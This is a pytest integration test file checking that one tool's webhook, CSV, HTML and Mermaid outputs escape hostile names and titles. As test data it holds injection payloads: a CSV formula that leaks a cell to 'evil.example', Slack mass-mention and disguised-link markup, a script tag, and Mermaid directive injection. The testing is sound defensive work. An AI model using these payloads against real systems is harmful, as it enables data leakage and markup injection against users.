"""Hostile names and titles reach every output format as the text they are: webhook text, CSV, HTML, Mermaid."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from freezegun import freeze_time
from sqlalchemy import Engine

from engine.program import assignments, people
from integration.conftest import Sojourn
from integration.test_mermaid import mermaid_parse
from integration.test_reports import REPORTED_AT, ReportPage, seed_program
from tests.conftest import NOW
from tests.support.webhook import Receiver
from workflows import builtin_workflow_texts

SLACK_MARKUP_NAME = "<!channel> Ana <http://evil.example/steal|click here> & co"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Cole Coach")'
MATH_NAME = r"Cole $\frac$ Coach $x^2$"
HOSTILE_TITLE = 'Prep; a: b %%{init: {"theme": "dark"}}%% <br> "quoted" #1 --> evil [*]'
HOSTILE_TASK_TITLES = ["Title takeover", "section Injected", "2027-01-01 kickoff: now; #x %% y", "click me"]


def _with_hostile_coach(db: Engine, spec: assignments.AssignmentSpec, name: str) -> assignments.AssignmentSpec:
    """The cast's assignment with a coach named `name` (the coach owns the overdue tasks the report lists)."""
    people.add_person(db, "hostile.coach@example.com", name=name, tz="Europe/Berlin")
    return replace(spec, stakeholders={**spec.stakeholders, "coach": "hostile.coach@example.com"})


def test_slack_markup_in_a_name_arrives_escaped_at_the_webhook_receiver(
        on_db: Sojourn, db: Engine, spec: assignments.AssignmentSpec, tmp_path: Path) -> None:
    """`<!channel>` and a disguised link in the assignee's name reach a real webhook as text Slack shows literally;
    the notification's own fields keep the name as written."""
    people.add_person(db, "hostile@example.com", name=SLACK_MARKUP_NAME, tz="UTC")
    assignments.create_assignment(db, replace(spec, assignee="hostile@example.com"), actor="admin", now=NOW)
    with Receiver(delay=0) as receiver:
        config = tmp_path / "sojourn.toml"
        config.write_text(f'[notifiers.webhook]\nurl = "{receiver.url}"\n', encoding="utf-8")
        with freeze_time(NOW):
            outcome = on_db("--config", str(config), "daemon", "--once")
        assert outcome.code == 0, outcome.stderr
        posted = [json.loads(body) for body in receiver.bodies()]
    assert posted
    escaped = "&lt;!channel&gt; Ana &lt;http://evil.example/steal|click here&gt; &amp; co"
    for payload in posted:
        assert SLACK_MARKUP_NAME in payload["subject"]
        assert escaped in payload["text"]
        assert "<" not in payload["text"]
        assert ">" not in payload["text"]


def test_a_formula_in_a_name_arrives_neutralised_in_the_csv_report(
        on_db: Sojourn, db: Engine, spec: assignments.AssignmentSpec) -> None:
    """`=HYPERLINK(...)` as a name is a cell beginning with a quote, which spreadsheets show as text; the numbers
    beside it stay numbers."""
    seed_program(db, _with_hostile_coach(db, spec, FORMULA_NAME))
    with freeze_time(REPORTED_AT):
        outcome = on_db("report", "--format", "csv")
    assert outcome.code == 0, outcome.stderr
    rows = list(csv.reader(io.StringIO(outcome.stdout)))
    overdue = [row for row in rows if row and row[0] == "overdue"]
    coach = next(row for row in overdue if row[1] == "hostile.coach@example.com")
    assert coach[2] == "'" + FORMULA_NAME
    assert coach[4] == "3"
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))]


@pytest.mark.parametrize("name", [MATH_NAME, "<script>alert(1)</script> --> Cole"])
def test_a_name_that_matplotlib_or_html_would_read_renders_literally_in_the_html_report(
        on_db: Sojourn, db: Engine, spec: assignments.AssignmentSpec, tmp_path: Path, name: str) -> None:
    """A `$` in a name no longer crashes the HTML report, and markup in a name is shown as text in the table and
    never reaches the page (or its charts) as markup."""
    seed_program(db, _with_hostile_coach(db, spec, name))
    target = tmp_path / "report.html"
    with freeze_time(REPORTED_AT):
        outcome = on_db("report", "--format", "html", "--output", str(target))
    assert outcome.code == 0, outcome.stderr
    html = target.read_text(encoding="utf-8")
    page = ReportPage()
    page.feed(html)
    assert page.scripts == 0
    assert [name] == [row[1] for row in page.tables["overdue"] if row and row[0] == "hostile.coach@example.com"]
    assert page.charts["overdue"] == 1
    assert "<script>" not in html


# --- Mermaid ---------------------------------------------------------------------------------------------------


def _hostile_workflow(tmp_path: Path) -> Path:
    """short-term-project renamed, its first stage and that stage's tasks given hostile titles."""
    definition: dict[str, Any] = yaml.safe_load(builtin_workflow_texts()["short-term-project.yaml"])
    definition["name"] = "hostile-project"
    definition["stages"][0]["title"] = HOSTILE_TITLE
    definition["stages"][0]["tasks"] = [
        {"key": f"task_{number}", "title": title, "owner": "mobility", "due": {"days": 7 + number}}
        for number, title in enumerate(HOSTILE_TASK_TITLES)]
    path = tmp_path / "hostile.yaml"
    path.write_text(yaml.safe_dump(definition, sort_keys=False), encoding="utf-8")
    return path


SQLITE_ONLY = pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # the text is the same on every backend


@SQLITE_ONLY
def test_a_hostile_stage_title_yields_a_diagram_mermaid_parses_with_the_same_states(
        on_db: Sojourn, tmp_path: Path) -> None:
    """A stage title with `;`, `:`, `%%{init}%%`, `<br>`, quotes, `#` and `-->` stays that state's one description:
    Mermaid reads the same states and transitions as for the built-in workflow it was copied from."""
    assert on_db("workflow", "install", str(_hostile_workflow(tmp_path))).code == 0
    hostile = on_db("workflow", "show", "hostile-project", "--diagram")
    assert hostile.code == 0, hostile.stderr
    original = mermaid_parse(on_db("workflow", "show", "short-term-project", "--diagram").stdout)
    parsed = mermaid_parse(hostile.stdout)
    assert (parsed["states"], parsed["relations"]) == (original["states"], original["relations"])
    assert parsed["descriptions"]["preparation"] == [HOSTILE_TITLE]
    assert "%%" not in hostile.stdout


@SQLITE_ONLY
def test_hostile_task_titles_and_names_stay_labels_in_the_gantt_chart(
        on_db: Sojourn, db: Engine, spec: assignments.AssignmentSpec, tmp_path: Path) -> None:
    """Task titles that begin like Mermaid statements (`Title`, `section`, a date, `click`) or hold `:`, `;`, `#`
    or `%%`, and an assignee name with quotes and colons, come out of Mermaid's parser as the same texts."""
    assert on_db("workflow", "install", str(_hostile_workflow(tmp_path))).code == 0
    people.add_person(db, "hostile@example.com", name='Ana: "Lima"; #1 %% x', tz="UTC")
    roles = {role: spec.stakeholders[role] for role in ("sending_manager", "host_manager", "mobility")}
    hostile_spec = replace(spec, workflow="hostile-project", assignee="hostile@example.com", stakeholders=roles)
    created = assignments.create_assignment(db, hostile_spec, actor="admin", now=NOW).view()
    with freeze_time(NOW):
        outcome = on_db("assignment", "show", str(created["id"]), "--gantt")
    assert outcome.code == 0, outcome.stderr
    parsed = mermaid_parse(outcome.stdout)
    assert parsed["title"] == f'Assignment {created["id"]} (Ana: "Lima"; #1 %% x, BR to DE)'
    assert parsed["sections"][0] == HOSTILE_TITLE
    milestones = [t["name"] for t in parsed["tasks"] if t["milestone"] and t["section"] == HOSTILE_TITLE]
    assert milestones == HOSTILE_TASK_TITLES
    assert all(t["processed"] for t in parsed["tasks"])
